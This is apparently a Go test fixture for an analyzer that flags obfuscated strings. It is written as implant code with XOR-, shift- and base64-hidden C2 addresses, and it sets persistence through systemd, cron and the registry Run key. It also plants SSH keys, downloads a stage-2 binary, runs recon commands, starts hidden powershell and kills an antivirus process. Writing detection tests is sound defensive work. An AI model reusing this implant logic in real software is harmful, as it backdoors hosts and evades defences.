// Obfuscation samples in Go: how Go implants and Go obfuscators (garble's literal
// obfuscation, hand-rolled XOR helpers, shift ciphers) keep their C2 addresses, commands and
// paths out of `strings` — and the byte loops of an agent that decode nothing.
package main

import (
	"bytes"
	"encoding/base64"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"strings"
)

const cfgKey = 0x5a

// "https://telemetry.avcorp-cloud.net/api/v2/beacon", XOR 0x5A.
var gateEnc = []byte{
	0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x2e, 0x3f, 0x36, 0x3f,
	0x37, 0x3f, 0x2e, 0x28, 0x23, 0x74, 0x3b, 0x2c, 0x39, 0x35, 0x28, 0x2a,
	0x77, 0x39, 0x36, 0x35, 0x2f, 0x3e, 0x74, 0x34, 0x3f, 0x2e, 0x75, 0x3b,
	0x2a, 0x33, 0x75, 0x2c, 0x68, 0x75, 0x38, 0x3f, 0x3b, 0x39, 0x35, 0x34,
}

// "/etc/systemd/system/avagent-helper.service", XOR 0x5A.
var unitPathEnc = []byte{
	0x75, 0x3f, 0x2e, 0x39, 0x75, 0x29, 0x23, 0x29, 0x2e, 0x3f, 0x37, 0x3e,
	0x75, 0x29, 0x23, 0x29, 0x2e, 0x3f, 0x37, 0x75, 0x3b, 0x2c, 0x3b, 0x3d,
	0x3f, 0x34, 0x2e, 0x77, 0x32, 0x3f, 0x36, 0x2a, 0x3f, 0x28, 0x74, 0x29,
	0x3f, 0x28, 0x2c, 0x33, 0x39, 0x3f,
}

func gateURL() string {
	for i := range gateEnc { // want "obfuscation/hidden-endpoint"
		gateEnc[i] ^= cfgKey
	}
	return string(gateEnc)
}

// xorDecode is the helper nearly every Go implant carries.
func xorDecode(b []byte, k byte) string {
	out := make([]byte, len(b))
	for i := range b {
		out[i] = b[i] ^ k
	}
	return string(out)
}

func shell() string {
	// "/bin/sh", each byte plus 3.
	enc := []byte{0x32, 0x65, 0x6c, 0x71, 0x32, 0x76, 0x6b}
	for i := 0; i < len(enc); i++ { // want "obfuscation/encoded-string"
		enc[i] = enc[i] - 3
	}
	return string(enc)
}

func cronPath() string {
	// "/etc/cron.d/avagent", each byte minus 7.
	enc := []byte{0x28, 0x5e, 0x6d, 0x5c, 0x28, 0x5c, 0x6b, 0x68, 0x67, 0x27, 0x5d, 0x28, 0x5a, 0x6f, 0x5a, 0x60, 0x5e, 0x67, 0x6d}
	var out []byte
	for _, c := range enc { // want "obfuscation/encoded-string"
		out = append(out, c+7)
	}
	return string(out)
}

// userAgent is garble's literal obfuscation: the data XORed with a key of its own length.
func userAgent() string {
	return func() string {
		data := []byte("\xe8\x22\xb0\x71\x49\x5c\xda\x32\x58\x3d\x1c\xfe\xfe\x74\x12\x40\xbd\x71\x48\x01\x3f\x85\x4d\x51\x26\x74\xba\xe6\x72\x1c\xca\x35\x5a\x56\x8a\x0a\x00\x66\x5f\xca\xf3\x80\xaf\x98\xc9\xf5\x1a\x0b\x19\x4b\xd2\x94\xdb\xca\xa6\x16\x0b\xf8\x67\x99")
		key := []byte("\xa5\x4d\xca\x18\x25\x30\xbb\x1d\x6d\x13\x2c\xde\xd6\x23\x7b\x2e\xd9\x1e\x3f\x72\x1f\xcb\x19\x71\x17\x44\x94\xd6\x49\x3c\x9d\x5c\x34\x60\xbe\x31\x20\x1e\x69\xfe\xda\xa0\xee\xe8\xb9\x99\x7f\x5c\x7c\x29\x99\xfd\xaf\xe5\x93\x25\x3c\xd6\x54\xaf")
		for i, b := range key { // want "obfuscation/encoded-string"
			data[i] = data[i] ^ b
		}
		return string(data)
	}()
}

// unshift undoes a Caesar shift, one byte at a time into a builder.
func unshift(s string, n byte) string {
	var sb strings.Builder
	for _, c := range []byte(s) {
		sb.WriteByte(c - n)
	}
	return sb.String()
}

func persist() error {
	unit := xorDecode(unitPathEnc, cfgKey) // want "obfuscation/encoded-string"
	if err := os.WriteFile(unit, serviceUnit(), 0o644); err != nil {
		return err
	}
	os.WriteFile(cronPath(), []byte("@reboot root "+os.Args[0]+"\n"), 0o644)
	if runtime.GOOS == "windows" {
		runKey := strings.Map(func(r rune) rune { return r - 1 }, "ILDV]Tpguxbsf]Njdsptpgu]Xjoepxt]DvssfouWfstjpo]Svo") // want "obfuscation/encoded-string"
		setRegistryValue(runKey, "AvAgentHelper", os.Args[0])
	}
	return nil
}

func killCompetitor() {
	cmd := unshift("vcummknn\"1H\"1KO\"cxiwctf0gzg", 2) // want "obfuscation/encoded-string"
	exec.Command("cmd.exe", "/c", cmd).Run()
}

func dialC2() (net.Conn, error) {
	host := xorDecode([]byte{ // want "obfuscation/hidden-endpoint"
		0x34, 0x31, 0x25, 0x20, 0x35, 0x24, 0x6f, 0x20, 0x37, 0x22, 0x2e, 0x33,
		0x31, 0x6c, 0x22, 0x2d, 0x2e, 0x34, 0x25, 0x6f, 0x2f, 0x24, 0x35, 0x7b,
		0x79, 0x75, 0x75, 0x72,
	}, 0x41)
	conn, err := net.Dial("tcp", host)
	if err != nil {
		// Fallback address, written as characters.
		return net.Dial("tcp", string([]byte{'1', '9', '8', '.', '5', '1', '.', '1', '0', '0', '.', '2', '3', ':', '4', '4', '3'})) // want "obfuscation/hidden-endpoint"
	}
	return conn, nil
}

// ---- base64 -----------------------------------------------------------------------------

const sshKeys = "L3Jvb3QvLnNzaC9hdXRob3JpemVkX2tleXM="

func fetchStage2() ([]byte, error) {
	u, _ := base64.StdEncoding.DecodeString("aHR0cHM6Ly9jZG4uYXZjb3JwLWNsb3VkLm5ldC9zdGFnZTIuYmlu") // want "obfuscation/hidden-endpoint"
	resp, err := http.Get(string(u))
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	return io.ReadAll(resp.Body)
}

func plantKey(pub []byte) {
	path, _ := base64.StdEncoding.DecodeString(sshKeys) // want "obfuscation/encoded-literal"
	f, _ := os.OpenFile(string(path), os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0o600)
	f.Write(pub)
	f.Close()
}

// relayURL hides its address twice: base64 of XOR-encoded bytes.
func relayURL() string {
	blob, _ := base64.StdEncoding.DecodeString("REBACRwcQVZfUkodUkVQXEFDHlBfXEZXHV1WRxxEQA==") // ok: only a layer — the loop below decodes it

	// The XOR layer.
	for i := range blob { // want "obfuscation/hidden-endpoint"
		blob[i] ^= 0x33
	}
	return string(blob)
}

// ---- strings built a character at a time ------------------------------------------------

func recon() []string {
	var sb strings.Builder
	sb.WriteByte('w') // want "obfuscation/stack-string"
	sb.WriteByte('h')
	sb.WriteByte('o')
	sb.WriteByte('a')
	sb.WriteByte('m')
	sb.WriteByte('i')
	out, _ := exec.Command(sb.String()).Output()

	var b []byte
	b = append(b, '/', 'b', 'i', 'n') // want "obfuscation/stack-string"
	b = append(b, '/', 'b')
	b = append(b, 'a', 's', 'h')
	exec.Command(string(b), "-c", "id").Run()

	var u [8]byte
	u[0] = 'u' // want "obfuscation/stack-string"
	u[1] = 'n'
	u[2] = 'a'
	u[3] = 'm'
	u[4] = 'e'
	exec.Command(string(u[:5]), "-a").Run()

	ps := exec.Command(string([]byte{'p', 'o', 'w', 'e', 'r', 's', 'h', 'e', 'l', 'l', '.', 'e', 'x', 'e'}), "-nop", "-w", "hidden") // want "obfuscation/stack-string"
	ps.Run()
	return []string{string(out)}
}

// hiddenDir XORs each byte with its position as well as a constant.
func hiddenDir() string {
	enc := []byte{0x1c, 0x46, 0x5c, 0x40, 0x18, 0x18, 0x6d, 0x05, 0x0a, 0x17, 0x4c, 0x56, 0x56, 0x46, 0x12, 0x12, 0x42, 0x45, 0x44, 0x4e, 0x53}
	for i := range enc { // todo "obfuscation/encoded-string" a position-dependent key (byte(i) ^ 0x33) is not evaluated, so "/tmp/.X11-unix/.agent" is not recovered
		enc[i] ^= byte(i) ^ 0x33
	}
	return string(enc)
}

// ---- must not match ---------------------------------------------------------------------

const version = "4.2.1" // ok: a plain literal hides nothing

func health() {
	http.Get("https://api.avcorp.example/health") // ok: a plain literal is not obfuscation
}

// A task arrives XOR-masked with a key from its own header.
func readTask(conn net.Conn) ([]byte, error) {
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(conn, hdr); err != nil {
		return nil, err
	}
	key := hdr[0]
	body := make([]byte, int(hdr[1])<<8|int(hdr[2]))
	io.ReadFull(conn, body)
	for i := range body { // ok: the key comes from the network
		body[i] ^= key
	}
	return body, nil
}

func readNote(msg []byte) string {
	return xorDecode(msg[1:], msg[0]) // ok: the decoder is handed network data and a network key
}

// unmask undoes WebSocket client masking: the mask is in the frame.
func unmask(payload, mask []byte) {
	for i := range payload { // ok: a mask from the frame, not a constant
		payload[i] ^= mask[i%4]
	}
}

func onFrame(frame []byte) {
	unmask(frame[6:], frame[2:6]) // ok: both come from the network
}

var crcTable = []uint32{0x00000000, 0x77073096, 0xee0e612c, 0x990951ba}

func checksum(p []byte) uint32 {
	c := ^uint32(0)
	for _, b := range p { // ok: a checksum over data, not a decoded string
		c = crcTable[(byte(c)^b)&3] ^ (c >> 8)
	}
	return ^c ^ crc32.ChecksumIEEE(p)
}

func parity(p []byte) (x byte) {
	for _, b := range p { // ok: folding bytes into one is not decoding
		x = x ^ b
	}
	return
}

var trayIcon, _ = base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=") // ok: base64 of binary data (a PNG header)

func isELF(p []byte) bool {
	return bytes.HasPrefix(p, []byte{0x7f, 'E', 'L', 'F'}) // ok: a magic number, not a hidden string
}

func lineEnd() []byte {
	return []byte{'\r', '\n'} // ok: two characters are not a string worth hiding
}

func serviceUnit() []byte { return nil }

func setRegistryValue(key, name, value string) {}

func main() {
	persist()
	killCompetitor()
	if c, err := dialC2(); err == nil {
		c.Write([]byte(gateURL() + userAgent() + shell() + relayURL() + hiddenDir()))
	}
	fetchStage2()
	recon()
}
